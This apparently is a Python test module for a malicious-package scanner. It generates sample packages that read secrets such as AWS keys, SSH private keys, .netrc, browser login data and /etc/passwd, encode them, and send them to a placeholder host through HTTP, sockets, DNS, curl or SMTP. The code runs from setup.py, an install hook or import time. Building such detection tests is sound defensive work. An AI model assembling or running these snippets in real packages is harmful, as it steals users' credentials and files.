"""Python that sends what it takes."""

from tests.combinations.parts import ADDRESS, HOST, Plan
from tests.evasions.case import Case

HEAD = "import base64, getpass, json, os, socket, subprocess, sys, urllib.parse, urllib.request, zlib\nfrom pathlib import Path\n"
TAKEN = {
    "environment": "D = dict(os.environ)",
    "token": "D = os.environ.get('AWS_SECRET_ACCESS_KEY')",
    "token-by-getenv": "D = os.getenv('GITHUB_TOKEN')",
    "ssh-key": "D = open(os.path.expanduser('~/.ssh/id_rsa')).read()",
    "ssh-key-by-path": "D = (Path.home() / '.ssh' / 'id_rsa').read_text()",
    "cloud-file": "D = open(os.path.join(os.path.expanduser('~'), '.aws', 'credentials')).read()",
    "pypirc": "D = Path('~/.pypirc').expanduser().read_text()",
    "netrc": "D = open(os.environ['HOME'] + '/.netrc').read()",
    "who": "D = {'h': socket.gethostname(), 'u': getpass.getuser(), 'c': os.getcwd()}",
    "programs-say": "D = subprocess.check_output('whoami && id && uname -a', shell=True).decode()",
    "folder": "D = {}\nfor r, d, fs in os.walk(os.path.expanduser('~/Documents')):\n    for f in fs:\n        D[f] = open(os.path.join(r, f), 'rb').read().hex()",
    "browser": "D = open(os.path.join(os.environ['LOCALAPPDATA'], 'Google', 'Chrome', 'User Data', 'Default', 'Login Data'), 'rb').read().hex()",
    "accounts": "D = open('/etc/passwd').read()",
    "dotenv": "D = open('.env').read()",
    "clipboard": "import pyperclip\nD = pyperclip.paste()",
}
MADE = {
    "plain": "S = D if isinstance(D, str) else json.dumps(D)",
    "base64": "S = base64.b64encode(json.dumps(D).encode()).decode()",
    "json": "S = json.dumps({'data': D})",
    "address": "S = urllib.parse.quote(str(D))",
    "packed": "S = base64.b64encode(zlib.compress(str(D).encode())).decode()",
}
SENT = {
    "urlopen": f"urllib.request.urlopen('{ADDRESS}', data=S.encode())",
    "request": f"r = urllib.request.Request('{ADDRESS}', data=S.encode(), method='POST')\nurllib.request.urlopen(r)",
    "query": f"urllib.request.urlopen('{ADDRESS}?d=' + S)",
    "query-of-template": f"urllib.request.urlopen(f'{ADDRESS}?d={{S}}')",
    "requests": f"import requests\nrequests.post('{ADDRESS}', data=S)",
    "requests-json": f"import requests\nrequests.post('{ADDRESS}', json={{'d': S}})",
    "requests-get": f"import requests\nrequests.get('{ADDRESS}', params={{'d': S}})",
    "session": f"import requests\ns = requests.Session()\ns.headers['x'] = S\ns.get('{ADDRESS}')",
    "httpx": f"import httpx\nhttpx.post('{ADDRESS}', json={{'d': S}})",
    "aiohttp": f"import aiohttp, asyncio\nasync def send():\n    async with aiohttp.ClientSession() as s:\n        await s.post('{ADDRESS}', data=S)\nasyncio.run(send())",
    "connection": f"import http.client\nc = http.client.HTTPSConnection('{HOST}')\nc.request('POST', '/in', S)",
    "socket": f"s = socket.socket()\ns.connect(('{HOST}', 443))\ns.sendall(S.encode())",
    "name-server": f"socket.gethostbyname(S[:50] + '.{HOST}')",
    "curl": f"os.system(\"curl -d '%s' {ADDRESS}\" % S)",
    "curl-of-words": f"subprocess.run(['curl', '-d', S, '{ADDRESS}'])",
    "mail": f"import smtplib\nm = smtplib.SMTP('{HOST}')\nm.sendmail('a@b.invalid', 'c@d.invalid', S)",
    "thread": f"import requests, threading\nthreading.Thread(target=requests.post, args=('{ADDRESS}',), kwargs={{'data': S}}).start()",
}


def at_place(id_: str, place: str, head: str, body: str) -> Case:
    """A release that runs code in setup.py, in a command of it, when it is imported, or in a function that it calls then."""
    inside = "".join(f"        {line}\n" for line in body.splitlines())
    if place == "setup":
        setup = f"{head}{body}\nfrom setuptools import setup\nsetup(name='sample', version='1.0')\n"
        return Case(id_, "sdist", {"setup.py": setup, "sample/__init__.py": ""})
    if place == "command":
        setup = (
            f"{head}from setuptools import setup\nfrom setuptools.command.install import install\n"
            f"class Install(install):\n    def run(self):\n{inside}        install.run(self)\n"
            "setup(name='sample', version='1.0', cmdclass={'install': Install})\n"
        )
        return Case(id_, "sdist", {"setup.py": setup, "sample/__init__.py": ""})
    if place == "import":
        return Case(id_, "wheel", {"sample/__init__.py": f"{head}{body}\n"})
    core = f"{head}def go():\n    try:\n{inside}    except Exception:\n        pass\n"
    return Case(id_, "wheel", {"sample/__init__.py": "from .core import go\ngo()\n", "sample/core.py": core})


def _make(id_: str, place: str, begin: str, middle: str, end: str) -> Case:
    return at_place(id_, place, HEAD, f"{begin}\n{middle}\n{end}")


PLAN = Plan(
    "python-taken",
    TAKEN,
    MADE,
    SENT,
    ("setup", "command", "import", "function"),
    _make,
    # What a session says in its headers, and who runs a program that sends: clients and installers do as much.
    missed=frozenset((*((taken, "session") for taken in TAKEN), ("who", "curl-of-words"))),
)
